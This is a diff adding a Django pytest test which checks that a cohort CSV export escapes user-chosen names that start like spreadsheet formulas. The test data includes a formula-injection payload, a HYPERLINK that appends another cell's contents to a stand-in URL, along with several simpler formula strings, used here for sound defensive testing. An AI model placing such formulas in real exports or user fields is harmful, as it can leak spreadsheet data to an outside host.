@@ -17,7 +17,7 @@ from portfolio.coverage import cohort_rows, views
 from portfolio.coverage.cohort_rows import cohort_api_rows, rows_of, with_row_relations
 from portfolio.coverage.selectors import cohort_list_for_user
 from portfolio.coverage.services.compute import coverage_recompute
-from portfolio.people.models import Apprenticeship
+from portfolio.people.models import Apprenticeship, Organisation, User
 from tests.factories import ApprenticeshipFactory, EvidenceFactory, StandardFactory, make_catalogue, make_world
 
 pytestmark = pytest.mark.django_db
@@ -165,3 +165,31 @@ PAGE_QUERIES = 9 + 3 + 4
 # Session, user, the person's roles, their organisations, the rows with their last activity (one cursor), then per
 # chunk of rows their AO rows. Then every row's next progress review, read once for the whole queryset: 5.
 CSV_QUERIES = 6 + 5
+
+
+@pytest.mark.parametrize(
+    ("first_name", "cell"),
+    [
+        (
+            '=HYPERLINK("http://x.invalid/?"&B2,"Open")',
+            '\'=HYPERLINK("http://x.invalid/?"&B2,"Open") Morgan',
+        ),
+        ("+1+2", "'+1+2 Morgan"),
+        ("-2+3", "'-2+3 Morgan"),
+        ("@SUM(A1)", "'@SUM(A1) Morgan"),
+        ("Alex", "Alex Morgan"),
+    ],
+)
+def test_the_csv_writes_a_cell_that_starts_like_a_formula_as_text(
+    client: Client, provider: Any, first_name: str, cell: str
+) -> None:
+    """An apprentice chooses their own name, and staff open the CSV in a spreadsheet: a name that starts like a
+    formula gets an apostrophe before it, so the spreadsheet shows it and runs nothing; other names are as they are."""
+    world, _ = provider
+    User.objects.filter(pk=world.apprentice.pk).update(first_name=first_name, last_name="Morgan")
+    Organisation.objects.filter(pk=world.employer.pk).update(name="=1+1 Ltd")
+    client.force_login(world.tutor)
+    response = client.get("/cohort/?format=csv")
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))  # type: ignore[attr-defined]
+    [row] = [row for row in rows[1:] if row[1] == world.apprentice.email]
+    assert (row[0], row[2]) == (cell, "'=1+1 Ltd")
